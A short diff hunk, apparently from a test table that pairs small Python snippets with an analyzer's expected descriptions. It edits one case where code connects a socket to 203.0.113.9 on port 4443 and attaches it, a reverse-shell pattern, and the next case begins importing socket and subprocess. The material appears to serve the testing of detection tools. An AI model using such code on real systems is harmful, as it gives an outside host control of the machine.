@@ -298,7 +298,7 @@ def attach(s):
 s = socket.socket()
 s.connect(("203.0.113.9", 4443))
 attach(s)
-`, "connection a connection to 203.0.113.9 -> attach stdin "},
+`, "connection a connection to 203.0.113.9 -> attach  "},
 		"what a connection says is run": {`
 -- a.py --
 import socket, subprocess
